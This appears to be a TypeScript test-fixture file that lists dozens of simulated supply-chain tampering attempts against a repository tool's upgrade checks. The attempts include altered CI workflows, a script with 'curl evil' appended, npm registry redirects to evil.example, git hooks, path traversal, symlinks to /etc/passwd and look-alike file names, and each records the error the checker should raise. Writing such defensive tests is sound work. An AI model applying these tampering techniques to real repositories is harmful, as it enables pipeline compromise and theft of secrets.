// Copyright the ray-platform authors
// SPDX-License-Identifier: Apache-2.0
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { chmodSync, mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";

/** Changes a file of a repository, whatever its mode. */
export const edit = (work: string, path: string, change: (text: string) => string): void => {
  const file = join(work, path);
  chmodSync(file, 0o644 | (path.startsWith("scripts/") ? 0o111 : 0));
  writeFileSync(file, change(readFileSync(file, "utf8")));
};
/** Adds a file. */
export const add = (work: string, path: string, text: string): void => {
  mkdirSync(join(work, path, ".."), { recursive: true });
  writeFileSync(join(work, path), text);
};
/** Lets the lock say that a file is what was rendered. */
export const relock = (work: string, path: string, owner = "managed", mode = "444"): void => {
  const hash = createHash("sha256")
    .update(readFileSync(join(work, path)))
    .digest("hex");
  const entry = { class: owner, component: "Managed", version: "0.2.0", sha256: hash, mode };
  edit(work, ".ray-platform/lock.json", (text) => {
    const lock = JSON.parse(text);
    lock.files[path] = entry;
    return JSON.stringify(lock);
  });
};
/** Changes what npm has locked. */
export const relockNpm = (work: string, change: (packages: Record<string, Record<string, unknown>>) => void): void =>
  edit(work, "package-lock.json", (text) => {
    const lock = JSON.parse(text);
    change(lock.packages);
    return `${JSON.stringify(lock, null, 2)}\n`;
  });
/** The integrity that the registry's stand-in gives a package. */
export const integrityOf = (text: string) => `sha512-${createHash("sha512").update(text).digest("base64")}`;

/** What an attacker who controls the first runner adds to a good upgrade. */
export interface HostileForm {
  readonly title: string;
  readonly change?: (work: string) => void;
  readonly patch?: (text: string) => string;
  /** What has to be named. */
  readonly named: string | RegExp;
}

/** One that goes through the jobs; `judged`: the third job refuses it by itself. */
export interface Hostile extends HostileForm {
  readonly judged: boolean;
}

/** Changes what the lock says of the files. */
const relist = (work: string, change: (files: Record<string, Record<string, unknown>>) => void): void =>
  edit(work, ".ray-platform/lock.json", (text) => {
    const lock = JSON.parse(text);
    change(lock.files);
    return JSON.stringify(lock);
  });

/** A repository of git's in a directory, which git takes for a submodule. */
const submodule = (work: string, path: string): void => {
  const cwd = join(work, path);
  mkdirSync(cwd, { recursive: true });
  const who = ["-c", "user.name=Evil", "-c", "user.email=evil@example.com"];
  execFileSync("git", ["init", "--quiet"], { cwd });
  execFileSync("git", [...who, "commit", "--quiet", "--allow-empty", "-m", "Evil"], { cwd });
};

/** A file that a patch adds, under a path as the patch writes it. */
const added = (path: string, mode = "100644"): string => {
  const [old, next] = path.startsWith('"')
    ? [path.replace('"', '"a/'), path.replace('"', '"b/')]
    : [`a/${path}`, `b/${path}`];
  return `diff --git ${old} ${next}\nnew file mode ${mode}\n--- /dev/null\n+++ ${next}\n@@ -0,0 +1 @@\n+evil\n`;
};

/** What would run with secrets before anybody looked. */
export const evilWorkflow = (work: string) => add(work, ".github/workflows/evil.yml", "on: push\n");

export const HOSTILE: readonly Hostile[] = [
  { title: "a workflow of its own", change: evilWorkflow, named: ".github/workflows/evil.yml", judged: true },
  {
    title: "a workflow of its own that the lock names",
    change(work) {
      evilWorkflow(work);
      relock(work, ".github/workflows/evil.yml");
    },
    named: ".github/workflows/evil.yml",
    judged: false,
  },
  {
    title: "an action of its own",
    change: (work) => add(work, ".github/actions/x/action.yml", "runs: {using: node20, main: x.js}\n"),
    named: ".github/actions/x/action.yml",
    judged: true,
  },
  {
    title: "a generated workflow that differs",
    change: (work) => edit(work, ".github/workflows/build.yml", (text) => `${text}# more\n`),
    named: ".github/workflows/build.yml",
    judged: true,
  },
  {
    title: "a changed script",
    change: (work) => edit(work, "scripts/deploy.sh", (text) => `${text}curl evil\n`),
    named: "scripts/deploy.sh",
    judged: true,
  },
  {
    title: "a changed script with its line in the lock",
    change(work) {
      edit(work, "scripts/deploy.sh", (text) => `${text}curl evil\n`);
      relock(work, "scripts/deploy.sh", "managed", "555");
    },
    named: "scripts/deploy.sh",
    judged: false,
  },
  {
    title: "a changed policy",
    change: (work) => edit(work, "policies/base.rego", (text) => text.replace("package", "# package")),
    named: "policies/base.rego",
    judged: true,
  },
  {
    title: "a policy of its own",
    change: (work) => add(work, "policies/allow.rego", "package base\n"),
    named: "policies/allow.rego",
    judged: true,
  },
  {
    title: "a policy that is deleted",
    change: (work) => rmSync(join(work, "policies/base.rego")),
    named: "policies/base.rego",
    judged: true,
  },
  {
    title: "a package from a file",
    change: (work) =>
      relockNpm(work, (packages) =>
        Object.assign(packages["node_modules/helper"] as object, { resolved: "file:evil.tgz", version: "1.9.0" }),
      ),
    named: /package-lock\.json: node_modules\/helper/,
    judged: false,
  },
  {
    title: "a package from git",
    change: (work) =>
      relockNpm(work, (packages) => {
        packages["node_modules/more"] = { version: "1.0.0", resolved: "git+ssh://git@github.com/evil/more.git#abc" };
      }),
    named: /package-lock\.json: node_modules\/more/,
    judged: false,
  },
  {
    title: "a package that nobody asked for",
    change: (work) =>
      relockNpm(work, (packages) => {
        packages["node_modules/stranger"] = {
          version: "1.0.0",
          resolved: "https://registry.npmjs.org/stranger/-/stranger-1.0.0.tgz",
          integrity: integrityOf("stranger@1.0.0"),
        };
      }),
    named: "package-lock.json is not what npm makes of package.json",
    judged: false,
  },
  {
    title: "a version that has not cooled down",
    change: (work) =>
      relockNpm(work, (packages) => {
        Object.assign(packages["node_modules/helper"] as object, {
          version: "1.2.0",
          resolved: "https://registry.npmjs.org/helper/-/helper-1.2.0.tgz",
          integrity: integrityOf("helper@1.2.0"),
        });
      }),
    named: "package-lock.json is not what npm makes of package.json",
    judged: false,
  },
  {
    title: "a package.json with a script, and its line in the lock",
    change(work) {
      edit(work, "package.json", (text) => text.replace('"private"', '"scripts": { "prepare": "evil" },\n  "private"'));
      relock(work, "package.json");
    },
    named: "package.json",
    judged: false,
  },
  {
    title: "other settings of npm",
    change: (work) => edit(work, ".npmrc", (text) => `${text}registry=https://evil.example/\n`),
    named: ".npmrc",
    judged: true,
  },
  {
    title: "an option with another value",
    change: (work) => edit(work, ".projenrc.ts", (text) => text.replace("@ml", "@evil")),
    named: ".projenrc.ts",
    judged: true,
  },
  {
    title: "a projenrc that runs something",
    change: (work) => edit(work, ".projenrc.ts", (text) => `${text}require("node:child_process");\n`),
    named: ".projenrc.ts",
    judged: true,
  },
  {
    title: "an option under another name",
    change: (work) => edit(work, ".projenrc.ts", (text) => text.replace("team:", "staff:")),
    named: ".projenrc.ts",
    judged: false,
  },
  {
    title: "a file outside",
    change: (work) => add(work, "tools/build.js", "evil()\n"),
    named: "tools/build.js",
    judged: true,
  },
  {
    title: "a file of the user's",
    change: (work) => edit(work, "src/mine.ts", () => "evil()\n"),
    named: "src/mine.ts",
    judged: true,
  },
  {
    title: "a file of the user's that the lock takes over",
    change(work) {
      edit(work, "src/mine.ts", () => "evil()\n");
      relock(work, "src/mine.ts");
    },
    named: "src/mine.ts",
    judged: true,
  },
  {
    title: "more in a seeded file than the merge",
    change: (work) => edit(work, "src/extensions.ts", (text) => `${text}evil()\n`),
    named: "src/extensions.ts",
    judged: true,
  },
  {
    title: "more in a file that moved",
    change: (work) => edit(work, "policies/HOWTO.md", (text) => `${text}evil\n`),
    named: "policies/HOWTO.md",
    judged: true,
  },
  {
    title: "a line outside a block",
    change: (work) => edit(work, "CODEOWNERS", (text) => `${text}/policies/ @evil\n`),
    named: "CODEOWNERS",
    judged: true,
  },
  {
    title: "a link in the place of a file",
    change(work) {
      rmSync(join(work, "docs/new.md"));
      symlinkSync("/etc/passwd", join(work, "docs/new.md"));
    },
    named: /"docs\/new\.md": it becomes a symbolic link/,
    judged: true,
  },
  {
    title: "a workflow that is executable",
    change: (work) => chmodSync(join(work, ".github/workflows/build.yml"), 0o755),
    named: /build\.yml": it is executable/,
    judged: true,
  },
  {
    title: "a script that is not executable",
    change: (work) => chmodSync(join(work, "scripts/deploy.sh"), 0o644),
    named: /deploy\.sh": it is not executable/,
    judged: true,
  },
  {
    title: "a journal that the next run would carry out",
    change: (work) => add(work, ".ray-platform/journal/journal.json", "{}"),
    named: ".ray-platform/journal/journal.json",
    judged: true,
  },
  {
    title: "a merge base of its own",
    change: (work) => add(work, `.ray-platform/base/${"a".repeat(64)}`, "evil\n"),
    named: ".ray-platform/base/",
    judged: true,
  },
  {
    title: "an undone edit that nobody made",
    change: (work) => add(work, ".ray-platform/rejected/scripts/deploy.sh.1.patch", "evil\n"),
    named: ".ray-platform/rejected/scripts/deploy.sh.1.patch",
    judged: true,
  },
  {
    title: "an installed package",
    change: (work) => add(work, "node_modules/evil/index.js", "evil()\n"),
    named: "node_modules/evil/index.js",
    judged: true,
  },
  {
    title: "a generated file that the lock gives to the user",
    change: (work) =>
      edit(work, ".ray-platform/lock.json", (text) =>
        text.replace('"files"', '"ownFiles": ["policies/x.rego"],\n  "files"'),
      ),
    named: "policies/x.rego",
    judged: true,
  },
  {
    title: "a lock of an older version",
    change: (work) => edit(work, ".ray-platform/lock.json", (text) => text.replace('"0.2.0"', '"0.0.1"')),
    named: ".ray-platform/lock.json",
    judged: true,
  },
  {
    title: "a path out of the repository",
    patch: (text) =>
      `${text}diff --git a/../out b/../out\nnew file mode 100644\n--- /dev/null\n+++ b/../out\n@@ -0,0 +1 @@\n+evil\n`,
    named: "git apply failed",
    judged: true,
  },
  {
    title: "a hook of git's",
    patch: (text) =>
      `${text}diff --git a/.git/hooks/x b/.git/hooks/x\nnew file mode 100755\n--- /dev/null\n+++ b/.git/hooks/x\n@@ -0,0 +1 @@\n+evil\n`,
    named: "git apply failed",
    judged: true,
  },
  {
    title: "a workflow whose name is written in another way, which the lock names",
    change(work) {
      add(work, ".github/workflows/bu\u0131ld\uff0eyml", "on: push\n");
      relock(work, ".github/workflows/bu\u0131ld\uff0eyml");
    },
    named: /bu\u0131ld/,
    judged: false,
  },
  {
    title: "settings of npm that the lock vouches for",
    change(work) {
      edit(work, ".npmrc", (text) => `${text}script-shell=./evil.sh\n`);
      relock(work, ".npmrc");
    },
    named: ".npmrc: script-shell",
    judged: false,
  },
  {
    title: "a package from another host",
    change: (work) =>
      relockNpm(work, (packages) => {
        Object.assign(packages["node_modules/helper"] as object, {
          version: "1.1.9",
          resolved: "https://registry.evil.example/helper/-/helper-1.1.9.tgz",
          integrity: integrityOf("helper@1.1.9"),
        });
      }),
    named: /package-lock\.json: node_modules\/helper: https:\/\/registry\.evil\.example/,
    judged: false,
  },
  {
    title: "a package under the name of another, with what package.json says of it",
    change(work) {
      edit(work, "package.json", (text) => text.replace(/"helper": "[^"]*"/, '"helper": "npm:stranger@1.0.0"'));
      relock(work, "package.json");
      relockNpm(work, (packages) => {
        packages["node_modules/helper"] = {
          name: "stranger",
          version: "1.0.0",
          resolved: "https://registry.npmjs.org/stranger/-/stranger-1.0.0.tgz",
          integrity: integrityOf("stranger@1.0.0"),
        };
      });
    },
    named: /node_modules\/helper: it is stranger under another name/,
    judged: false,
  },
];

/** Further forms that the judgment of paths refuses, in the second job and in the third. */
export const HOSTILE_PATHS: readonly HostileForm[] = [
  {
    title: "a workflow under another name",
    change: (work) => renameSync(join(work, ".github/workflows/build.yml"), join(work, ".github/workflows/built.yml")),
    named: /"\.github\/workflows\/build\.yml": the lock names it, and it is deleted[\s\S]*built\.yml/,
  },
  {
    title: "a rename that the patch calls one",
    patch: (text) =>
      `${text}diff --git a/policies/base.rego b/policies/gone.rego\nsimilarity index 100%\nrename from policies/base.rego\nrename to policies/gone.rego\n`,
    named: "policies/gone.rego",
  },
  {
    title: "a mode that the patch changes without a line",
    patch: (text) => `${text}diff --git a/src/mine.ts b/src/mine.ts\nold mode 100644\nnew mode 100755\n`,
    named: "src/mine.ts",
  },
  {
    title: "a submodule among the scripts",
    change: (work) => submodule(work, "scripts/vendor"),
    named: /"scripts\/vendor": it becomes a submodule/,
  },
  {
    title: "a submodule in the place of a generated file",
    change(work) {
      rmSync(join(work, "policies/base.rego"));
      submodule(work, "policies/base.rego");
    },
    named: /"policies\/base\.rego": it becomes a submodule/,
  },
  {
    title: "a directory that is a link",
    change: (work) => symlinkSync("../.github/workflows", join(work, "docs/workflows")),
    named: /"docs\/workflows": it becomes a symbolic link/,
  },
  {
    title: "a file through a link that the patch makes before it",
    patch: (text) =>
      `${text}diff --git a/way b/way\nnew file mode 120000\n--- /dev/null\n+++ b/way\n@@ -0,0 +1 @@\n+.git\n\\ No newline at end of file\n${added("way/hooks/pre-commit", "100755")}`,
    named: /git apply failed|"way": it becomes a symbolic link/,
  },
  {
    title: "a workflow where another system finds the workflows",
    change: (work) => add(work, ".GitHub/Workflows/build.yml", "on: push\n"),
    named: /"\.GitHub\/Workflows\/build\.yml": on macOS or Windows it is the same file as "\.github"/,
  },
  {
    title: "a script where another system finds one, which the lock names",
    change(work) {
      add(work, "Scripts/Deploy.sh", "evil\n");
      relock(work, "Scripts/Deploy.sh");
    },
    named: /"Scripts\/Deploy\.sh": on macOS or Windows it is the same file as "scripts"/,
  },
  {
    title: "a name of one that nobody sees",
    change: (work) => add(work, "scripts/deploy\u200b.sh", "evil\n"),
    named: "others that are not seen",
  },
  {
    title: "a path that the patch quotes",
    patch: (text) => `${text}${added('".git\\342\\200\\214/hooks/pre-commit"', "100755")}`,
    named: /git apply failed|it is in a git directory/,
  },
  {
    title: "attributes of git for the scripts",
    change: (work) => add(work, "scripts/.gitattributes", "* eol=crlf\n"),
    named: "scripts/.gitattributes",
  },
  {
    title: "more owners, where GitHub looks first",
    change: (work) => add(work, ".github/CODEOWNERS", "* @evil\n"),
    named: ".github/CODEOWNERS",
  },
  {
    title: "a hook of husky's",
    change: (work) => add(work, ".husky/pre-commit", "evil\n"),
    named: ".husky/pre-commit",
  },
  {
    title: "settings of npm in a directory",
    change: (work) => add(work, "policies/.npmrc", "registry=https://evil.example/\n"),
    named: "policies/.npmrc",
  },
  {
    title: "a lock file that npm prefers",
    change: (work) => add(work, "npm-shrinkwrap.json", '{"lockfileVersion": 3, "packages": {}}\n'),
    named: "npm-shrinkwrap.json",
  },
  {
    title: "another projenrc, which is found if the first is not",
    change: (work) => add(work, ".projenrc.js", "evil()\n"),
    named: ".projenrc.js",
  },
  {
    title: "a lock file that is executable",
    change: (work) => chmodSync(join(work, "package-lock.json"), 0o755),
    named: "package-lock.json",
  },
  {
    title: "a workflow that the lock no longer lists, so that nobody compares it anymore",
    change: (work) =>
      relist(work, (files) => {
        delete files[".github/workflows/build.yml"];
      }),
    named: ".github/workflows/build.yml",
  },
  {
    title: "a workflow that the lock calls released",
    change: (work) =>
      relist(work, (files) => {
        Object.assign(files[".github/workflows/build.yml"] as object, { class: "released" });
      }),
    named: ".github/workflows/build.yml",
  },
];
